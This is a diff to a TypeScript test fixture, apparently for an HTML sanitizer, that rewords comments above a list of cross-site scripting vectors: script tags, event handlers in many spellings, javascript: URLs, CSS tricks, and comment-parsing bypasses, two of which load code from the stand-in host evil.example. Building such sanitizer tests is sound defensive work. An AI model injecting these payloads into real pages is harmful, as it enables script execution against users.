@@ -1,6 +1,6 @@
-/** Markup that would run something, or hide something that runs, if a filter let it through. */
+/** Markup that would run code, or hide code that runs, if a filter preserved it. */
 export const VECTORS: readonly string[] = [
-  // Elements that run, load or take over
+  // Elements that run code, load resources or replace the page
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<ScRiPt >alert(1)</sCrIpT >',
@@ -40,7 +40,7 @@ export const VECTORS: readonly string[] = [
   '<marquee onstart=alert(1)>x</marquee>',
   '<isindex action="javascript:alert(1)">',
   '<custom-element onclick=alert(1)>x</custom-element>',
-  // Handlers, and the many ways to write them
+  // Event handlers in all their spellings
   '<p onclick="alert(1)">x</p>',
   '<p ONCLICK=alert(1)>x</p>',
   '<p/onclick=alert(1)>x</p>',
@@ -107,7 +107,7 @@ export const VECTORS: readonly string[] = [
   '<p style="behavior:url(x.htc)">x</p>',
   '<p style="color:red;@import url(//evil.example/x.css)">x</p>',
   '<p style=\'font-family:"x;background:url(javascript:alert(1));y"\'>x</p>',
-  // Comments, declarations, instructions
+  // Comments, declarations and processing instructions
   '<!--><script>alert(1)</script>-->',
   '<!---><script>alert(1)</script>-->',
   '<!-- --!><script>alert(1)</script>-->',
